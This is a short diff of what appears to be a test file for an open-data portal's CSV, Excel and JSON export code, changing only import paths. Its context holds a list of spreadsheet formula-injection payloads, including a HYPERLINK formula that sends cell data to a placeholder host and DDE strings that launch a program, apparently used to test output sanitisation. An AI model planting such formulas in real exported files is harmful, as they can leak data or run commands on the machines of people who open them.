@@ -9,9 +9,9 @@ from pathlib import Path
 
 import pandas as pd
 
-from portal.build.formats import write_csv, write_excel_csv, write_json, write_sjis_csv
-from portal.build.normalize import Column
-from portal.build.opendata_list import opendata_list_csv
+from portal.opendata_list import opendata_list_csv
+from portal.publishing.formats import write_csv, write_excel_csv, write_json, write_sjis_csv
+from portal.publishing.normalize import Column
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"鹿沼")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "鹿沼市"]
